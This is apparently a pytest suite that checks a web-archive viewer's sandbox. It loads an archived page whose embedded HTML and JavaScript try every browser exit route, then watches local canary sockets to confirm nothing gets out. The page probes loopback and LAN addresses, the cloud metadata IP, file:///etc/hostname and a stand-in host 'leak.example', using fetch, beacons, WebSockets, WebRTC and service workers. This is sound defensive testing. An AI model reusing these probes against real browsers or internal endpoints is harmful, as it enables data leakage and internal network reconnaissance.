"""An archived page cannot reach anything but the archive, whatever it tries."""

from __future__ import annotations

import contextlib
import os
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from pytestqt.qtbot import QtBot

from widgets.web import arguments

LISTABLE = Path("/proc/self/net/tcp").exists()  # the sockets of other processes: Linux only

# Every way out that a page knows, to every kind of address. %P is the port of the canaries.
ATTEMPTS = """
<!doctype html>
<link rel=preconnect href=http://127.0.0.1:%P/pc><link rel=dns-prefetch href=//leak.example>
<link rel=prefetch href=http://127.0.0.1:%P/pf><link rel=preload as=script href=http://localhost:%P/pl>
<link rel=stylesheet href=http://127.0.0.1:%P/c.css><link rel=icon href=http://127.0.0.1:%P/i.ico>
<link rel=manifest href=http://127.0.0.1:%P/m.json>
<style>@import url(http://[::1]:%P/i.css); body { background: url(http://0.0.0.0:%P/b.png) }</style>
<img src=http://127.0.0.1:%P/1.png><img src=http://localhost:%P/2.png><img src=http://[::1]:%P/3.png>
<img src=http://%H:%P/4.png><img src=//sub.localhost:%P/5.png><img src=https://127.0.0.1:%P/6.png>
<img src=http://10.0.0.1/7.png><img src=http://192.168.1.1/8.png><img src=http://169.254.169.254/9.png>
<img src=file:///etc/hostname><img src=ftp://127.0.0.1:%P/f.png><img src=chrome://version/>
<iframe src=http://127.0.0.1:%P/frame></iframe><iframe src=file:///etc/hostname></iframe>
<iframe src=view-source:http://127.0.0.1:%P/></iframe><object data=http://127.0.0.1:%P/o></object>
<video src=http://127.0.0.1:%P/v.mp4 autoplay></video><script src=http://127.0.0.1:%P/s.js></script>
<form id=form method=post target=sink action=http://127.0.0.1:%P/form></form><iframe name=sink></iframe>
<a id=ping href=#x ping=http://127.0.0.1:%P/ping>x</a>
<script>
const bases = ["127.0.0.1:%P", "localhost:%P", "[::1]:%P", "%H:%P", "leak.example"];
const left = [], go = (what) => { try { left.push(Promise.resolve(what()).catch(() => 0)); } catch { } };
for (const b of bases) {
  go(() => fetch("http://" + b + "/fetch", { mode: "no-cors" }));
  go(() => fetch("https://" + b + "/fetch", { mode: "no-cors", method: "POST", body: "x", keepalive: true }));
  go(() => navigator.sendBeacon("http://" + b + "/beacon", "x"));
  for (const s of ["ws", "wss"]) go(() => new Promise((r) => { new WebSocket(s + "://" + b + "/ws").onerror = r; }));
  go(() => new Promise((r) => { new EventSource("http://" + b + "/events").onerror = r; }));
  go(() => new Worker("data:text/javascript,fetch('http://" + b + "/worker');new WebSocket('ws://" + b + "/w')"));
  go(() => new WebTransport("https://" + b + "/wt").ready);
  go(() => navigator.serviceWorker.register("http://" + b + "/sw.js"));
}
go(() => navigator.serviceWorker.register("/sw.js").then(() => document.body.dataset.worker = "yes"));
go(() => document.getElementById("form").submit());
go(() => document.getElementById("ping").click());
go(() => open("http://127.0.0.1:%P/popup"));
go(async () => {
  const servers = ["stun:127.0.0.1:%U", "stun:%H:%U", "stun:stun.leak.example:3478"];
  const turn = { urls: "turn:127.0.0.1:%P?transport=tcp", username: "a", credential: "b" };
  const peer = new RTCPeerConnection({ iceServers: [{ urls: servers }, turn] });
  peer.createDataChannel("x");
  peer.onicecandidate = (e) => { if (e.candidate) document.body.dataset.ice += e.candidate.candidate; };
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise((r) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && r(); });
});
const wait = (ms) => new Promise((r) => setTimeout(r, ms));
Promise.all([wait(1000), Promise.race([Promise.allSettled(left), wait(3000)])])
  .then(() => { document.title = "done"; });
</script>
"""


def own_address() -> str:
    """An address of this machine other than the loopback one, if it has any."""
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 9))  # a datagram socket sends nothing when it connects
        return str(probe.getsockname()[0])
    return "127.0.0.1"


class Canary:
    """Listens on every address of this machine, TCP and UDP; sings when anybody comes."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(
            ("", 0),
            family=socket.AF_INET6 if socket.has_dualstack_ipv6() else socket.AF_INET,
            dualstack_ipv6=socket.has_dualstack_ipv6(),
        )
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("", 0))
        for one in (self.tcp, self.udp):
            one.setblocking(False)
        self.port, self.udp_port = self.tcp.getsockname()[1], self.udp.getsockname()[1]

    def visitors(self) -> list[object]:
        """Connections wait in the backlog and datagrams in the buffer until somebody looks."""
        found: list[object] = []
        with contextlib.suppress(BlockingIOError):
            while True:
                connection, peer = self.tcp.accept()
                connection.close()
                found.append(peer)
        with contextlib.suppress(BlockingIOError):
            while True:
                found.append(self.udp.recvfrom(2000))
        return found

    def close(self) -> None:
        self.tcp.close()
        self.udp.close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    made = Canary()
    yield made
    made.close()


def family(pid: int) -> list[int]:
    """This process and everything it started."""
    found = [pid]
    for task in Path(f"/proc/{pid}/task").glob("*/children"):
        for child in task.read_text().split():
            found += family(int(child))
    return found


def internet_sockets() -> set[tuple[str, str, str]]:
    """(protocol, local, remote) of the internet sockets of this process and its children, from the kernel's tables."""
    inodes = set()
    for pid in family(os.getpid()):
        with contextlib.suppress(OSError):  # a child that just ended
            for handle in Path(f"/proc/{pid}/fd").iterdir():
                with contextlib.suppress(OSError):
                    target = str(handle.readlink())
                    if target.startswith("socket:["):
                        inodes.add(target[8:-1])
    found = set()
    for protocol in ("tcp", "tcp6", "udp", "udp6"):
        for line in Path(f"/proc/self/net/{protocol}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[9] in inodes:
                found.add((protocol, fields[1], fields[2]))
    return found


class Watch:
    """Looks at all sockets of the program again and again, in a thread."""

    def __init__(self) -> None:
        self.seen: set[tuple[str, str, str]] = set()
        self.looks = 0
        self._end = threading.Event()
        self._thread = threading.Thread(target=self._look)

    def __enter__(self) -> Watch:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._end.set()
        self._thread.join()

    def _look(self) -> None:
        while not self._end.wait(0.01):
            with contextlib.suppress(FileNotFoundError):
                self.seen |= internet_sockets()
                self.looks += 1


@pytest.mark.parametrize("site", ["https://a.example", "http://a.example", "http://127.0.0.1:%P"])
def test_no_way_out(
    site: str, canary: Canary, keep: Callable[..., Any], pane: Any, qtbot: QtBot, request: Any
) -> None:
    """The page tries everything; no canary hears of it, and no process of ours has a socket to anywhere else."""
    own = own_address()

    def fill(text: str) -> str:
        return text.replace("%P", str(canary.port)).replace("%U", str(canary.udp_port)).replace("%H", own)

    keep(
        fill(site) + "/sw.js", "self.onfetch = () => fetch('http://127.0.0.1')", media_type="text/javascript"
    )
    page = keep(fill(site) + "/", fill(ATTEMPTS), minutes=1)
    before = internet_sockets() if LISTABLE else set()
    with Watch() if LISTABLE else contextlib.nullcontext() as watch:
        pane.view.show_capture(page)
        pane.until("document.title", "done")
        pane.script("1")
    assert canary.visitors() == []
    assert pane.script("document.body.dataset.worker || 'none'") == "none"
    assert pane.view.missing(), "the attempts did reach the replay server"
    if watch is None:
        pytest.skip("sockets of other processes can be listed on Linux only")
    proxy = f"0100007F:{arguments.listener().getsockname()[1]:04X}"
    strangers = {
        (protocol, local, remote)
        for protocol, local, remote in watch.seen - before
        if not (protocol == "tcp" and proxy in (local, remote))
    }
    assert watch.looks > 3
    assert any(remote == proxy for _, _, remote in watch.seen), "the watch does see Chromium's sockets"
    assert strangers == set()


def test_web_rtc_out_of_a_frame_that_no_script_of_ours_sees(
    canary: Canary, keep: Callable[..., Any], pane: Any, qtbot: QtBot
) -> None:
    """There the constructor exists, but it finds no addresses, sends nothing, and joins no multicast group."""
    script = """
        const frame = document.createElement("iframe");
        document.body.append(frame);
        const Peer = frame.contentWindow.RTCPeerConnection || class { createDataChannel() {} };
        const peer = new Peer({ iceServers: [{ urls: ["stun:127.0.0.1:%U", "stun:%H:%U"] }] });
        document.body.dataset.ice = "";
        peer.createDataChannel("x");
        peer.onicecandidate = (e) => { if (e.candidate) document.body.dataset.ice += e.candidate.candidate; };
        peer.onicegatheringstatechange = () => { document.title = peer.iceGatheringState; };
        if (peer.createOffer) peer.createOffer().then((o) => peer.setLocalDescription(o));
        else document.title = "complete";
    """
    script = script.replace("%U", str(canary.udp_port)).replace("%H", own_address())
    page = keep("https://a.example/", f"<body><script>{script}</script>")
    before = internet_sockets() if LISTABLE else set()
    with Watch() if LISTABLE else contextlib.nullcontext() as watch:
        pane.show(page)
        pane.until("document.title", "complete")
    assert pane.script("document.body.dataset.ice") == ""
    assert canary.visitors() == []
    if watch is not None:
        datagrams = {entry for entry in watch.seen - before if entry[0].startswith("udp")}
        assert all(int(remote.split(":")[0], 16) == 0 for _, _, remote in datagrams), "connected to nobody"
        assert all(int(local.split(":")[1], 16) != 5353 for _, local, _ in datagrams), "no multicast DNS"


@pytest.mark.parametrize("target", ["http://localhost:%P/x", "http://127.0.0.1:%P/x", "http://%H:%P/x"])
def test_a_refresh_to_a_local_server_ends_in_the_archive(
    target: str, canary: Canary, keep: Callable[..., Any], pane: Any
) -> None:
    address = target.replace("%P", str(canary.port)).replace("%H", own_address())
    pane.show(keep("https://a.example/", f"<meta http-equiv=refresh content='0;url={address}'>"))
    pane.until("document.title", "Not in the archive")
    assert pane.script("location.href") == address
    assert canary.visitors() == []


def test_the_canary_can_sing(canary: Canary) -> None:
    """A proof that finds nothing must be able to find something."""
    with (
        socket.create_connection(("127.0.0.1", canary.port)),
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one,
    ):
        one.sendto(b"x", ("127.0.0.1", canary.udp_port))
        assert len(canary.visitors()) == 2
